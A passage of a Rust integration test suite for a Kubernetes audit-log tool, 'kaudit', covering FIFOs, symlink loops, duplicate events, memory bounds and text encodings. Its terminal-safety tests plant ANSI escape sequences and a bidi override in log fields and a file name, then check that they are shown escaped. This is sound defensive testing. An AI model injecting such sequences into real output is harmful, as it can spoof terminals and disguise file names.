    use std::os::unix::fs::OpenOptionsExt;
    let deadline = Instant::now() + HANG;
    loop {
        match OpenOptions::new()
            .write(true)
            .custom_flags(libc::O_NONBLOCK)
            .open(path)
        {
            Ok(f) => {
                // back to blocking writes
                use std::os::fd::AsRawFd;
                // SAFETY: fcntl on a descriptor we own.
                unsafe {
                    let fl = libc::fcntl(f.as_raw_fd(), libc::F_GETFL);
                    libc::fcntl(f.as_raw_fd(), libc::F_SETFL, fl & !libc::O_NONBLOCK);
                }
                return f;
            }
            Err(e) if e.raw_os_error() == Some(libc::ENXIO) && Instant::now() < deadline => {
                std::thread::sleep(Duration::from_millis(10));
            }
            Err(e) => panic!("no reader opened the FIFO: {e}"),
        }
    }
}

/// A FIFO given as a path is read as a stream (plain or gzip, even when the first byte comes
/// alone), and kaudit ends when the writer closes it. Regression: kaudit opened every file twice
/// (once to look for the gzip magic), so a FIFO lost its first two bytes, and the second open
/// blocked forever when the writer had already gone.
#[cfg(unix)]
#[test]
fn a_fifo_is_opened_once_so_no_byte_is_lost_and_it_ends_with_its_writer() {
    let dir = tmp();
    let fifo = dir.path().join("audit.log");
    let c = std::ffi::CString::new(fifo.to_str().unwrap()).unwrap();
    // SAFETY: a valid C string.
    assert_eq!(unsafe { libc::mkfifo(c.as_ptr(), 0o600) }, 0);
    let plain = events(0..100).into_bytes();
    for data in [plain.clone(), gz(&plain)] {
        let child = kaudit_std(&["summary", "-o", "json", fifo.to_str().unwrap()])
            .spawn()
            .unwrap();
        let mut w = fifo_writer(&fifo);
        w.write_all(&data[..1]).unwrap();
        w.flush().unwrap();
        std::thread::sleep(Duration::from_millis(50));
        w.write_all(&data[1..]).unwrap();
        drop(w);
        let r = wait_output(child, HANG).expect_code(0);
        assert_eq!(r.stderr, "");
        let d = doc(&r);
        adds_up(&d);
        assert_eq!((n(&d, "lines"), n(&d, "events")), (100, 100));
        // a FIFO has no size: the bytes read are reported
        assert_eq!(d["files"][0]["bytes"], plain.len() as u64);
    }
}

/// /proc files say size 0 but have content: they are read, not taken for empty. kaudit reads
/// its own environment, which the test sets to hold an event. Regression: `bytes` said 0.
#[cfg(target_os = "linux")]
#[test]
fn a_proc_file_is_read_despite_its_zero_size() {
    let ev = event(1);
    let r = finish(
        kaudit()
            .env("K", format!("\n{ev}\n"))
            .args(["summary", "-o", "json", "/proc/self/environ"])
            .output()
            .unwrap(),
    )
    .expect_code(0);
    let d = doc(&r);
    adds_up(&d);
    // `K=`, the event, and the final NUL
    assert_eq!(
        (n(&d, "lines"), n(&d, "events"), n(&d, "malformed")),
        (3, 1, 2)
    );
    assert_eq!(d["files"][0]["bytes"], (2 + 1 + ev.len() + 1 + 1) as u64);
}

/// Each file of a folder that cannot be read is reported; the others are read; exit 2.
/// Regression: dangling and looping symlinks named like logs were left out silently.
#[cfg(unix)]
#[test]
#[allow(clippy::print_stderr)]
fn a_folder_with_unreadable_files_reports_each_and_reads_the_rest() {
    use std::os::unix::fs::{PermissionsExt, symlink};
    let dir = tmp();
    let d = dir.path();
    put(d, "audit.log", events(0..2));
    let locked = put(d, "audit.log.1", events(10..13));
    fs::set_permissions(&locked, fs::Permissions::from_mode(0o000)).unwrap();
    // unreadable even for root: reading /proc/self/mem at offset 0 fails with EIO
    #[cfg(target_os = "linux")]
    symlink("/proc/self/mem", d.join("audit.log.2")).unwrap();
    symlink("audit.log.3", d.join("audit.log.3")).unwrap(); // a loop
    symlink("gone.log.9", d.join("audit.log.4")).unwrap(); // dangling
    let name = |f: &str| format!("{}/{f}", d.display());
    let r = go(&["summary", "-o", "json", d.to_str().unwrap()]).expect_code(2);
    let doc = doc(&r);
    adds_up(&doc);
    assert!(
        r.stderr.contains(&format!(
            "kaudit: error: {}: Too many levels of symbolic links",
            name("audit.log.3")
        )),
        "{}",
        r.stderr
    );
    assert!(r.stderr.contains(&format!(
        "kaudit: error: {}: No such file or directory",
        name("audit.log.4")
    )));
    #[cfg(target_os = "linux")]
    assert!(r.stderr.contains(&format!(
        "kaudit: error: {}: Input/output error",
        name("audit.log.2")
    )));
    let errors: Vec<&str> = doc["files"]
        .as_array()
        .unwrap()
        .iter()
        .filter_map(|f| f["error"].as_str())
        .collect();
    let privileged = File::open(&locked).is_ok();
    if privileged {
        eprintln!(
            "note: running with privileges that ignore mode 000 (root?): not checking that \
             an unreadable file is reported; the /proc/self/mem and symlink cases are"
        );
        assert_eq!(n(&doc, "events"), 5);
    } else {
        assert!(r.stderr.contains(&format!(
            "kaudit: error: {}: Permission denied",
            name("audit.log.1")
        )));
        assert_eq!(n(&doc, "events"), 2);
    }
    let unreadable = if cfg!(target_os = "linux") { 3 } else { 2 } + usize::from(!privileged);
    assert_eq!(errors.len(), unreadable, "{errors:?}");
    assert_eq!(r.stderr.lines().count(), unreadable, "{}", r.stderr);
    // rows from the readable files are still printed
    let r = go(&["events", "-o", "ndjson", d.to_str().unwrap()]).expect_code(2);
    assert!(crate::util::ndjson(&r.stdout).len() >= 2);
}

#[cfg(unix)]
#[test]
fn symlink_loops_are_reported_not_followed_forever() {
    use std::os::unix::fs::symlink;
    let dir = tmp();
    let d = dir.path();
    // a path argument that is a loop: an error naming it, as for a missing file
    symlink("self.log", d.join("self.log")).unwrap();
    let p = d.join("self.log");
    let r = go(&["summary", p.to_str().unwrap()]).expect_code(2);
    assert_eq!(
        r.stderr,
        format!(
            "kaudit: error: {}: Too many levels of symbolic links (os error 40)\n",
            p.display()
        )
    );
    assert!(r.stdout.is_empty());
    // a loop of two inside a folder, and a folder link back to itself (walked once, and said)
    let sub = d.join("logs");
    fs::create_dir(&sub).unwrap();
    put(&sub, "audit.log", events(0..3));
    symlink("b.log", sub.join("a.log")).unwrap();
    symlink("a.log", sub.join("b.log")).unwrap();
    symlink(".", sub.join("again.log")).unwrap();
    let r = go(&["summary", "-o", "json", sub.to_str().unwrap()]).expect_code(2);
    let doc = doc(&r);
    adds_up(&doc);
    assert_eq!(n(&doc, "events"), 3);
    for f in ["a.log", "b.log"] {
        assert!(
            r.stderr.contains(&format!(
                "{}: Too many levels of symbolic links",
                sub.join(f).display()
            )),
            "{}",
            r.stderr
        );
    }
    assert!(
        r.stderr.contains(&format!(
            "kaudit: note: {}: a link back to {} (a symlink loop); not walked again\n",
            sub.join("again.log").display(),
            sub.display()
        )),
        "{}",
        r.stderr
    );
    assert_eq!(r.stderr.lines().count(), 3, "{}", r.stderr);
}

#[test]
fn a_folder_without_logs_is_an_error() {
    let dir = tmp();
    put(dir.path(), "README.md", "not a log");
    fs::create_dir(dir.path().join("sub.log")).unwrap();
    let r = go(&["summary", dir.path().to_str().unwrap()]).expect_code(2);
    let d = dir.path().display();
    assert_eq!(
        r.stderr,
        format!(
            "kaudit: error: {d}: no audit logs in this folder or its subfolders (1 file in 2 folders looked at, by content: none holds audit events):\n  {d}/README.md: not JSON\n"
        )
    );
    assert!(r.stdout.is_empty());
}

// ---------------------------------------------------------------- terminal safety

const EVIL: &str = "\u{1b}]0;pwned\u{7}\u{1b}[2J\r\u{202e}exe.txt";
const SHOWN: &str = "\\e]0;pwned\\x07\\e[2J\\r\\u{202e}exe.txt";

/// A create, a failed update (422) and an update of configmap build/app by a user whose name,
/// user agent, URI, status message and body carry escapes; and a get of an object whose name
/// carries them.
fn evil_log() -> String {
    let at = |v: &mut Value, sec: u64| {
        let t = format!("2026-11-21T15:00:{sec:02}.000000Z");
        v["requestReceivedTimestamp"] = json!(t);
        v["stageTimestamp"] = json!(t);
    };
    let body = |data: Value| {
        json!({"kind": "ConfigMap", "apiVersion": "v1",
               "metadata": {"name": "app", "namespace": "build"}, "data": data})
    };
    let common = |v: &mut Value| {
        v["level"] = json!("RequestResponse");
        v["user"]["username"] = json!(format!("mallory{EVIL}"));
        v["userAgent"] = json!(format!("kubectl/v1.30{EVIL}"));
    };
    [
        event_with(1, |v| {
            common(v);
            at(v, 1);
            v["verb"] = json!("create");
            v["requestURI"] = json!(format!("/api/v1/namespaces/build/configmaps?x={EVIL}"));
            v["requestObject"] = body(json!({"k": "v"}));
            v["responseObject"] = body(json!({"k": "v"}));
            v["responseStatus"] = json!({"metadata": {}, "code": 201});
        }),
        event_with(2, |v| {
            common(v);
            at(v, 2);
            v["verb"] = json!("update");
            v["requestObject"] = body(json!({format!("k{EVIL}"): format!("v{EVIL}")}));
            v["responseStatus"] = json!({"metadata": {}, "status": "Failure",
                "message": format!("denied{EVIL}"), "reason": format!("Invalid{EVIL}"), "code": 422});
        }),
        event_with(3, |v| {
            common(v);
            at(v, 3);
            v["verb"] = json!("update");
            v["requestObject"] = body(json!({format!("k{EVIL}"): format!("v{EVIL}")}));
            v["responseObject"] = body(json!({format!("k{EVIL}"): format!("v{EVIL}")}));
        }),
        event_with(4, |v| {
            common(v);
            at(v, 4);
            v["objectRef"]["name"] = json!(format!("app{EVIL}"));
            v["requestURI"] = json!(format!("/api/v1/namespaces/build/configmaps/app{EVIL}"));
        }),
    ]
    .join("\n")
        + "\n"
}

/// ANSI CSI and OSC sequences, carriage returns and bidi overrides in userAgent,
/// objectRef.name, requestURI, responseStatus and bodies are shown as visible escapes in every
/// table and text output, whatever the width; JSON keeps them exact.
#[test]
fn escape_sequences_in_fields_are_shown_not_obeyed() {
    let dir = tmp();
    let f = put(dir.path(), "evil.log", evil_log());
    let outputs: &[&[&str]] = &[
        &["events"],
        &["events", "-o", "wide"],
        &["timeline"],
        &["timeline", "-o", "wide"],
        &["history", "-n", "build", "cm/app"],
        &["history", "-n", "build", "-o", "wide", "cm/app"],
        &["who"],
        &["summary"],
    ];
    for args in outputs {
        for columns in ["100", "400"] {
            let mut cmd = kaudit();
            cmd.env("COLUMNS", columns).args(*args).arg(&f);
            let r = finish(cmd.output().unwrap()).expect_code(0);
            let what = format!("{args:?} at {columns} columns");
            harmless(&what, r.stdout_str());
            harmless(&what, &r.stderr);
            assert!(
                r.stdout_str().contains("\\e]0;pwned\\x07"),
                "{what}: the escapes are shown:\n{}",
                r.stdout_str()
            );
        }
    }
    // each field shows up, escaped, somewhere
    let wide = go(&["events", "-o", "wide", &f]);
    let text = wide.stdout_str();
    for field in [
        format!("mallory{SHOWN}"),
        format!("kubectl/v1.30{SHOWN}"),
        format!("build/app{SHOWN}"),
        format!("/api/v1/namespaces/build/configmaps/app{SHOWN}"),
    ] {
        assert!(text.contains(&field), "{field} in\n{text}");
    }
    let history = go(&["history", "-n", "build", "cm/app", &f]);
    assert!(
        history
            .stdout_str()
            .contains(&format!("not applied: 422 Invalid{SHOWN}")),
        "{}",
        history.stdout_str()
    );
    // machines get the exact bytes
    let r = go(&["events", "-o", "ndjson", &f]).expect_code(0);
    let rows = crate::util::ndjson(&r.stdout);
    assert_eq!(rows[0]["user"], format!("mallory{EVIL}"));
}

/// Malformed lines carrying escapes (raw, and as JSON escapes that end up in a reason), in a
/// file whose name carries them too: stderr and the summary table show them escaped.
#[cfg(unix)]
#[test]
fn malformed_lines_with_escapes_are_reported_harmlessly() {
    let dir = tmp();
    let mut text = Vec::new();
    text.extend_from_slice(format!("{EVIL} not json\n").as_bytes());
    text.extend_from_slice(br#"{"auditID":"a","stage":"\u001b]0;pwned\u0007\u001b[2J\r\u202e"}"#);
    text.push(b'\n');
    text.extend_from_slice(
        br#"{"kind":"\u001b]0;x\u0007\u202e","auditID":"a","stage":"ResponseComplete"}"#,
    );
    text.push(b'\n');
    text.extend_from_slice(b"{\"auditID\":\"\x1b[2J\r\",\"stage\":\"ResponseComplete\"}\n");
    let f = put(dir.path(), &format!("evil{EVIL}.log"), &text);
    let shown = format!("evil{SHOWN}.log");
    for args in [
        &["summary"][..],
        &["summary", "-o", "json"][..],
        &["events"][..],
    ] {
        let mut all = args.to_vec();
        all.push(&f);
        let r = go(&all);
        assert!(r.code == 2, "{args:?}: {}", r.stderr);
        harmless("stderr", &r.stderr);
        assert_eq!(
            r.stderr.matches(": malformed line: ").count(),
            4,
            "{}",
            r.stderr
        );
        assert!(
            r.stderr.contains(&format!("{shown}:1: malformed line: ")),
            "{}",
            r.stderr
        );
        if args == ["summary"] {
            harmless("summary table", r.stdout_str());
            assert!(r.stdout_str().contains(&format!("{shown}:2: malformed: ")));
        }
    }
}

// ---------------------------------------------------------------- one request, one count

/// `RequestReceived` and `ResponseComplete` of request `i` (key: auditID and received time).
fn stages_of(i: u64) -> [String; 2] {
    let rr = event_with(i, |v| {
        v["stage"] = json!("RequestReceived");
        v.as_object_mut().unwrap().remove("responseStatus");
    });
    [rr, event(i)]
}

/// Every variant of one input: a file (mapped and read), stdin, gzip, 1 and 2 threads, and
/// chunks small enough that the repeats fall in other chunks than their originals.
fn every_path(dir: &Path, name: &str, input: &[u8], args: &[&str]) -> Vec<Run> {
    let file = put(dir, name, input);
    let gzf = put(dir, &format!("{name}.gz"), gz(input));
    let mut runs = Vec::new();
    for extra in [
        &[][..],
        &["--no-mmap"],
        &["-j", "1"],
        &["--chunk-size=2048"],
        &["--chunk-size=2048", "-j", "1"],
    ] {
        for f in [&file, &gzf] {
            let mut a = args.to_vec();
            a.extend_from_slice(extra);
            a.push(f);
            runs.push(go(&a));
        }
    }
    runs.push(run_stdin(args, input.to_vec()));
    runs
}

/// A shipper that delivers lines twice (at-least-once) must not double the requests: one
/// auditID with one received time is one request, and each repeated stage is counted, left out
/// and noted, whether the copy is the next line or a whole re-sent file later (other chunks).
#[test]
fn a_line_delivered_twice_is_one_request_and_a_counted_repeat() {
    let dir = tmp();
    // the repro: each of 3 requests' lines twice in a row
    let r = go(&[
        "summary",
        "-o",
        "json",
        "testdata/hostile/duplicate-lines.log",
    ])
    .expect_code(0);
    let d = doc(&r);
    adds_up(&d);
    assert_eq!((n(&d, "requests"), n(&d, "lateEvents")), (3, 6), "{d}");
    assert!(
        r.stderr.contains("6 stage event(s) repeated"),
        "{}",
        r.stderr
    );
    // a second ResponseComplete (403, then 200): the request ended with the first
    let r = go(&[
        "events",
        "-o",
        "ndjson",
        "testdata/hostile/double-complete.log",
    ])
    .expect_code(0);
    let rows: Vec<Value> = r
        .stdout_str()
        .lines()
        .map(|l| serde_json::from_str(l).unwrap())
        .collect();
    assert_eq!(rows.len(), 1, "{}", r.stdout_str());
    assert_eq!(rows[0]["code"], json!(403));
    // 300 requests, then the whole log again (a re-sent file), and one ResponseComplete again at
    // the very end: in every chunk layout and input path, 300 requests and 601 stages left out
    let mut once = String::new();
    for i in 0..300 {
        let [rr, rc] = stages_of(i);
        once.push_str(&format!("{rr}\n{rc}\n"));
    }
    let input = format!("{once}{once}{}\n", event(7));
    for r in every_path(
        dir.path(),
        "twice.log",
        input.as_bytes(),
        &["summary", "-o", "json"],
    ) {
        let d = doc(&r.expect_code(0));
        adds_up(&d);
        assert_eq!(n(&d, "requests"), 300, "{d}");
        assert_eq!(n(&d, "incomplete"), 0, "{d}");
        assert_eq!(n(&d, "lateEvents"), 601, "{d}");
    }
}

/// A command that folds as it reads (`top`) with a selective filter reads a mapped file's
/// chunks in place; a chunk holding a repeat of a request folded in an earlier chunk is read
/// again (with `pread`, never from the map) and folded without it. bob makes one request in
/// ten, the whole log is sent twice: bob has 30 requests, for every chunk layout and input path.
#[test]
fn a_selective_fold_over_a_file_sent_twice_counts_each_request_once() {
    let dir = tmp();
    let mut once = String::new();
    for i in 0..300 {
        let user = if i % 10 == 0 { "bob" } else { "alice" };
        let [rr, rc] = stages_of(i).map(|l| {
            let mut v: Value = serde_json::from_str(&l).unwrap();
            v["user"]["username"] = json!(user);
            v.to_string()
        });
        once.push_str(&format!("{rr}\n{rc}\n"));
    }
    let input = format!("{once}{once}");
    for r in every_path(
        dir.path(),
        "twice-bob.log",
        input.as_bytes(),
        &["top", "--by", "user", "-u", "bob", "-o", "json"],
    ) {
        let r = r.expect_code(0);
        let rows: Value = serde_json::from_str(r.stdout_str()).unwrap();
        assert_eq!(rows[0]["user"], json!("bob"), "{rows}");
        assert_eq!(rows[0]["requests"], json!(30), "{rows}\n{}", r.stderr);
    }
}

/// An auditID reused (a client-supplied `Audit-ID`) in a log without requestReceivedTimestamp:
/// two requests, and the user prefilter must find the second one as the full parse does.
#[test]
fn a_reused_audit_id_without_received_time_is_two_requests_for_every_filter() {
    let f = "testdata/hostile/reused-auditid-no-rts.log";
    for user in ["alice", "alic*"] {
        for extra in [&[][..], &["--no-prefilter"], &["--chunk-size=600"]] {
            let mut a = vec!["events", "-o", "ndjson", "-u", user];
            a.extend_from_slice(extra);
            a.push(f);
            let r = go(&a).expect_code(0);
            let rows: Vec<Value> = r
                .stdout_str()
                .lines()
                .map(|l| serde_json::from_str(l).unwrap())
                .collect();
            assert_eq!(rows.len(), 1, "{a:?}: {}", r.stdout_str());
            assert_eq!(rows[0]["user"], json!("alice"), "{a:?}");
            assert_eq!(rows[0]["verb"], json!("get"), "{a:?}");
        }
    }
    let d = doc(&go(&["summary", "-o", "json", f]).expect_code(0));
    assert_eq!((n(&d, "requests"), n(&d, "lateEvents")), (2, 0), "{d}");
}

/// A watch's RequestReceived delivered again (a shipper's retry) far from its first copy, in
/// another chunk, then the watch's ResponseComplete: the later chunk sees a whole request, but
/// the earlier chunk left that request open. One key is one request: the repeat is a late
/// stage, the watch keeps its ResponseStarted, and nothing is counted twice, whatever the chunk
/// layout (issue 16 review: the open fragment and the later whole request were two requests).
#[test]
fn stages_of_one_request_in_two_chunks_join_even_with_a_repeat_between() {
    let dir = tmp();
    let watch = 900_000;
    let stage = |name: &str, sec: u64| {
        event_with(watch, |v| {
            v["verb"] = json!("watch");
            v["stage"] = json!(name);
            v["stageTimestamp"] = json!(format!("2026-11-21T16:00:{sec:02}.000000Z"));
            if name == "RequestReceived" {
                v.as_object_mut().unwrap().remove("responseStatus");
            }
        })
    };
    let mut input = format!(
        "{}
{}
",
        stage("RequestReceived", 0),
        stage("ResponseStarted", 1)
    );
    for i in 0..400 {
        let [rr, rc] = stages_of(i);
        input.push_str(&format!("{rr}\n{rc}\n"));
    }
    input.push_str(&format!(
        "{}\n{}\n",
        stage("RequestReceived", 0),
        stage("ResponseComplete", 40)
    ));
    for r in every_path(
        dir.path(),
        "watch.log",
        input.as_bytes(),
        &["summary", "-o", "json"],
    ) {
        let d = doc(&r.expect_code(0));
        adds_up(&d);
        assert_eq!(n(&d, "requests"), 401, "{d}");
        assert_eq!(n(&d, "incomplete"), 0, "{d}");
        assert_eq!(n(&d, "lateEvents"), 1, "{d}");
        assert_eq!(d["stages"]["ResponseStarted"], json!(1), "{d}");
    }
    let r = go(&[
        "events",
        "-o",
        "ndjson",
        "--verb",
        "watch",
        "--chunk-size=2048",
        &dir.path().join("watch.log").to_string_lossy(),
    ])
    .expect_code(0);
    let rows: Vec<Value> = r
        .stdout_str()
        .lines()
        .map(|l| serde_json::from_str(l).unwrap())
        .collect();
    assert_eq!(rows.len(), 1, "{}", r.stdout_str());
    assert_eq!(rows[0]["code"], json!(200), "{}", r.stdout_str());
}

/// Without requestReceivedTimestamp, one client-chosen auditID used by two overlapping requests
/// (mallory's delete, alice's get), their stages interleaved and far apart: each stage joins the
/// open request that agrees with it on verb, user and URI, never the other one, for every chunk
/// layout, input path and filter (issue 16 review: stages joined in arrival order, so alice's
/// get ended with mallory's 200 and mallory's delete with alice's 403).
#[test]
fn stages_without_received_time_join_the_request_they_agree_with() {
    let dir = tmp();
    let stage = |user: &str, name: &str, sec: u64| {
        event_with(800_000, |v| {
            let o = v.as_object_mut().unwrap();
            o.remove("requestReceivedTimestamp");
            o["auditID"] = json!("A1");
            o["stage"] = json!(name);
            o["stageTimestamp"] = json!(format!("2026-11-21T16:00:{sec:02}.000000Z"));
            o["user"] = json!({"username": user});
            if user == "mallory" {
                o["verb"] = json!("delete");
                o["requestURI"] = json!("/api/v1/namespaces/build/secrets/db");
                o["objectRef"] = json!({"resource": "secrets", "namespace": "build", "name": "db", "apiVersion": "v1"});
            }
            match name {
                "RequestReceived" => {
                    o.remove("responseStatus");
                }
                _ => o["responseStatus"] = json!({"code": if user == "alice" { 403 } else { 200 }}),
            }
        })
    };
    let mut input = format!("{}\n", stage("mallory", "RequestReceived", 0));
    for i in 0..400 {
        let [rr, rc] = stages_of(i);
        input.push_str(&format!("{rr}\n{rc}\n"));
    }
    for (user, name, sec) in [
        ("alice", "RequestReceived", 1),
        ("mallory", "ResponseComplete", 2),
        ("alice", "ResponseComplete", 3),
    ] {
        input.push_str(&format!("{}\n", stage(user, name, sec)));
    }
    let a1 = |r: Run| -> Vec<String> {
        r.expect_code(0)
            .stdout_str()
            .lines()
            .map(|l| serde_json::from_str::<Value>(l).unwrap())
            .filter(|v| v["auditID"] == json!("A1"))
            .map(|v| {
                format!(
                    "{} {} {} {}",
                    v["user"], v["verb"], v["resource"], v["code"]
                )
            })
            .collect()
    };
    let both = vec![
        r#""mallory" "delete" "secrets" 200"#.to_owned(),
        r#""alice" "get" "configmaps" 403"#.to_owned(),
    ];
    for r in every_path(
        dir.path(),
        "a1.log",
        input.as_bytes(),
        &["events", "-o", "ndjson"],
    ) {
        assert_eq!(a1(r), both);
    }
    for (user, want) in [
        ("mallory", &both[..1]),
        ("mall*", &both[..1]),
        ("alice", &both[1..]),
    ] {
        for r in every_path(
            dir.path(),
            "a1.log",
            input.as_bytes(),
            &["events", "-o", "ndjson", "-u", user],
        ) {
            assert_eq!(a1(r), want, "-u {user}");
        }
    }
}

/// Requests that never end take bounded memory: past `--max-open-memory` the oldest are
/// reported incomplete at a checkpoint, and a stage of one read later is late, with a note. The
/// counts still add up, and they do not depend on how the input was read: which requests are
/// ended is decided at checkpoints (fixed points of the input), not at chunk ends (issue 16
/// review: the evicted set varied with stdin's reads).
#[test]
fn requests_that_never_end_take_bounded_memory() {
    let dir = tmp();
    let mut input = String::new();
    for i in 0..10_000 {
        input.push_str(&stages_of(i)[0]);
        input.push('\n');
    }
    // the end of the first 100, long after: their requests were ended for want of memory
    for i in 0..100 {
        input.push_str(&stages_of(i)[1]);
        input.push('\n');
    }
    // (checkpoints, where requests are ended for want of memory, every 100 KB here)
    let args = [
        "summary",
        "-o",
        "json",
        "--max-open-memory",
        "1M",
        "--checkpoint",
        "100000",
    ];
    for r in every_path(dir.path(), "open.log", input.as_bytes(), &args) {
        let r = r.expect_code(0);
        let d = doc(&r);
        adds_up(&d);
        assert_eq!(n(&d, "requests"), 10_000, "{d}");
        assert_eq!(n(&d, "incomplete"), 10_000, "{d}");
        assert_eq!(n(&d, "lateEvents"), 100, "{d}");
        assert!(
            r.stderr
                .contains("request(s) were still open when the memory for open requests")
                && r.stderr
                    .contains("100 later stage event(s) of them counted as late"),
            "{}",
            r.stderr
        );
    }
    // with the default, all of them are held and the first 100 complete
    let d =
        doc(&go(&["summary", "-o", "json", &put(dir.path(), "all.log", &input)]).expect_code(0));
    assert_eq!(
        (n(&d, "requests"), n(&d, "incomplete")),
        (10_000, 9_900),
        "{d}"
    );
    // a bad size names the flag
    let r = go(&[
        "summary",
        "--max-open-memory",
        "lots",
        "testdata/hostile/bom.log",
    ])
    .expect_code(2);
    assert!(r.stderr.contains("--max-open-memory"), "{}", r.stderr);
}

/// A UTF-8 byte-order mark before the first line (or a document) is skipped, counted and
/// noted: the line is read, not reported malformed.
/// A log saved as UTF-16 or UTF-32 (PowerShell's `>`, a Windows export), with or without its
/// byte-order mark, is reported as that encoding and not read, on every input path: before,
/// each of its lines was a malformed line ("invalid UTF-8"), and nothing said why.
#[test]
fn a_utf16_or_utf32_log_is_reported_as_such() {
    let dir = tmp();
    let text = events(0..3);
    let utf16 = |be: bool, bom: bool| -> Vec<u8> {
        let mut out = Vec::new();
        for u in (if bom { "\u{feff}" } else { "" })
            .encode_utf16()
            .chain(text.encode_utf16())
        {
            out.extend_from_slice(&if be { u.to_be_bytes() } else { u.to_le_bytes() });
        }
        out
    };
    let utf32le: Vec<u8> = "\u{feff}"
        .chars()
        .chain(text.chars())
        .flat_map(|c| (c as u32).to_le_bytes())
        .collect();
    for (input, enc) in [
        (utf16(false, true), "UTF-16LE"),
        (utf16(true, true), "UTF-16BE"),
        (utf16(false, false), "UTF-16LE"),
        (utf32le, "UTF-32LE"),
    ] {
        for r in every_path(dir.path(), "wide.log", &input, &["summary", "-o", "json"]) {
            let r = r.expect_code(2);
            let d = doc(&r);
            assert_eq!((n(&d, "records"), n(&d, "malformed")), (0, 0), "{d}");
            assert!(
                r.stderr
                    .contains(&format!("{enc} text, and kaudit reads UTF-8; not read")),
                "{enc}: {}",
                r.stderr
            );
        }
    }
}

#[test]
fn a_byte_order_mark_is_skipped_and_noted() {
    let r = go(&["summary", "-o", "json", "testdata/hostile/bom.log"]).expect_code(0);
    let d = doc(&r);
    adds_up(&d);
    assert_eq!((n(&d, "malformed"), n(&d, "requests")), (0, 1), "{d}");
    assert_eq!(n(&d, "byteOrderMarks"), 1);
    assert!(
        r.stderr
            .contains("1 line(s) began with a UTF-8 byte-order mark"),
        "{}",
        r.stderr
    );
    // on stdin, and a pretty-printed document (read whole) behind one
    let bytes = fs::read(crate::util::repo_path("testdata/hostile/bom.log")).unwrap();
    let d = doc(&run_stdin(&["summary", "-o", "json"], bytes).expect_code(0));
    assert_eq!((n(&d, "malformed"), n(&d, "byteOrderMarks")), (0, 1), "{d}");
    let pretty =
        serde_json::to_string_pretty(&serde_json::from_str::<Value>(&event(1)).unwrap()).unwrap();
    for input in [
        format!("\u{feff}{pretty}\n"),
        format!("{}\n\u{feff}{}\n", event(2), event(3)),
    ] {
        let d = doc(&run_stdin(&["summary", "-o", "json"], input).expect_code(0));
        assert_eq!(n(&d, "malformed"), 0, "{d}");
        assert_eq!(n(&d, "byteOrderMarks"), 1, "{d}");
    }
}

/// Times that do not parse are counted and shown once; a request left without a time is not
/// dropped by --since/--until in silence: the note says how many, and which flag.
#[test]
fn unreadable_times_are_counted_and_the_window_says_what_it_left_out() {
    let f = "testdata/hostile/bad-timestamps.log";
    let r = go(&["summary", "-o", "json", f]).expect_code(0);
    let d = doc(&r);
    adds_up(&d);
    assert_eq!(n(&d, "badTimes"), 3, "{d}");
    assert!(
        r.stderr.contains("3 event(s) have a time that does not parse (first: testdata/hostile/bad-timestamps.log:1: \"2026-02-30T00:00:00Z\")"),
        "{}",
        r.stderr
    );
    let r = go(&["events", "-o", "ndjson", "--since", "2026-11-01", f]).expect_code(0);
    assert_eq!(r.stdout_str().lines().count(), 1);
    assert!(
        r.stderr.contains("3 request(s) matched the other filters but have no time to compare with --since: left out"),
        "{}",
        r.stderr
    );
    // the other filters first: alice's requests only, none untimed for bob
    let r = go(&["events", "-u", "bob", "--until", "2027-01-01", f]).expect_code(1);
    assert!(!r.stderr.contains("no time to compare"), "{}", r.stderr);
}

/// Issue 16: timeline collapsed requests with no readable time into the timed ones that said the
/// same thing (`(no time in the log)` then `x4 until 10:00:01.000 eve read secret p/s`: two
/// requests given a time they do not have), and `--context` took every untimed request as
/// "near" an untimed match. Like `events`, timeline lists them first, under their own heading,
/// on lines of their own, never as context, and a note counts them.
#[test]
fn timeline_lists_untimed_requests_apart_from_timed_ones() {
    let ev = |i: u64, ts: &str, user: &str| {
        event_with(i, |v| {
            v["requestReceivedTimestamp"] = json!(ts);
            v["stageTimestamp"] = json!(ts);
            v["user"]["username"] = json!(user);
        }) + "\n"
    };
    let log = [
        ev(1, "garbage", "eve"),
        ev(2, "2026-02-30T10:00:00.000000Z", "eve"),
        ev(3, "2026-11-21T10:00:00.000000Z", "eve"),
        ev(4, "2026-11-21T10:00:01.000000Z", "eve"),
        ev(5, "2026-11-21T10:00:01.100000Z", "bob"),
        ev(6, "nonsense", "carol"),
    ]
    .concat();
    let dir = tmp();
    let f = put(dir.path(), "untimed.log", &log);
    let r = go(&["timeline", "-o", "json", &f]).expect_code(0);
    let lines: Vec<Value> = serde_json::from_slice(&r.stdout).unwrap();
    let said: Vec<(Value, Value, u64, Vec<&str>)> = lines
        .iter()
        .map(|l| {
            let ids = l["auditIDs"].as_array().unwrap();
            (
                l["time"].clone(),
                l["last"].clone(),
                l["count"].as_u64().unwrap(),
                ids.iter().map(|i| &i.as_str().unwrap()[32..]).collect(),
            )
        })
        .collect();
    assert_eq!(
        said,
        [
            (Value::Null, Value::Null, 2, vec!["0001", "0002"]),
            (Value::Null, Value::Null, 1, vec!["0006"]),
            (
                json!("2026-11-21T10:00:00.000000Z"),
                json!("2026-11-21T10:00:01.000000Z"),
                2,
                vec!["0003", "0004"]
            ),
            (
                json!("2026-11-21T10:00:01.100000Z"),
                json!("2026-11-21T10:00:01.100000Z"),
                1,
                vec!["0005"]
            ),
        ],
        "{}",
        r.stdout_str()
    );
    assert!(
        r.stderr.contains(
            "3 request(s) have no readable time: listed first, under \"(no time in the log)\""
        ),
        "{}",
        r.stderr
    );
    let r = go(&["timeline", &f]).expect_code(0);
    let text = r.stdout_str();
    let no_time = text
        .find("(no time in the log)")
        .expect("a heading for untimed requests");
    let dated = text.find("2026-11-21 (UTC)").expect("a date line");
    assert!(no_time < dated, "{text}");
    assert!(text[no_time..dated].contains("x2"), "{text}");
    assert!(
        !text.contains("x3") && !text.contains("x4"),
        "untimed merged into timed: {text}"
    );
    // an untimed match is shown; nothing is its context, and it is context to nothing
    let r = go(&[
        "timeline",
        "--context",
        "1s",
        "-u",
        "carol",
        "-o",
        "json",
        &f,
    ])
    .expect_code(0);
    let lines: Vec<Value> = serde_json::from_slice(&r.stdout).unwrap();
    assert_eq!(lines.len(), 1, "{}", r.stdout_str());
    assert_eq!(lines[0]["context"], json!(false));
    let r = go(&["timeline", "--context", "1s", "-u", "bob", "-o", "json", &f]).expect_code(0);
    let lines: Vec<Value> = serde_json::from_slice(&r.stdout).unwrap();
    assert_eq!(lines.len(), 2, "{}", r.stdout_str());
    assert!(
        lines.iter().all(|l| l["time"] != Value::Null),
        "{}",
